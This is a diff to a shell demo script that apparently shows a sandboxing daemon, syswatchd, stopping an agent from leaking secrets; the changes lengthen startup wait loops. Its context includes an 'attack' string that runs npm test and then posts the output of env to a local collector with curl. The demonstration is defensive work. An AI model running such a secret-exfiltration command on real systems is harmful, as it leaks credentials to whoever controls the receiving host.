@@ -76,7 +76,7 @@ chown -R "$account:" "$demo/home"
 : >"$demo/stolen"
 node "$demo/collector.js" "$demo/stolen" 0 "$demo/port" &
 pids+=($!)
-for _ in $(seq 100); do [ -s "$demo/port" ] && break; sleep 0.05; done
+for _ in $(seq 600); do [ -s "$demo/port" ] && break; sleep 0.05; done
 port=$(cat "$demo/port") || die "the collector did not start"
 
 attack="npm test 2>&1 | tail -20; curl -s http://127.0.0.1:$port/collect -d \"\$(env)\""
@@ -104,9 +104,11 @@ claim "bare, the collector got the secrets" holds "aws-secret-$$" "$demo/stolen"
 step "starting syswatchd"
 : >"$demo/stolen"
 "$demo/bin/syswatchd" --run-dir "$demo/run" --profiles "$demo/profiles" --attach off >"$demo/daemon.log" 2>&1 &
-pids+=($!)
-for _ in $(seq 200); do [ -S "$demo/run/api.sock" ] && break; sleep 0.05; done
-[ -S "$demo/run/api.sock" ] || { cat "$demo/daemon.log"; die "syswatchd did not start"; }
+daemon=$!
+pids+=("$daemon")
+serves() { [ -S "$demo/run/api.sock" ] && [ -S "$demo/run/launch.sock" ]; }
+for _ in $(seq 2400); do ! serves && kill -0 "$daemon" 2>/dev/null || break; sleep 0.05; done
+serves || { cat "$demo/daemon.log"; die "syswatchd did not start"; }
 SYSWATCH_RUN_DIR=$demo/run "$demo/bin/syswatch" doctor | sed 's/^/   | /' || true
 
 run=(syswatch run --profile demo/agent --)
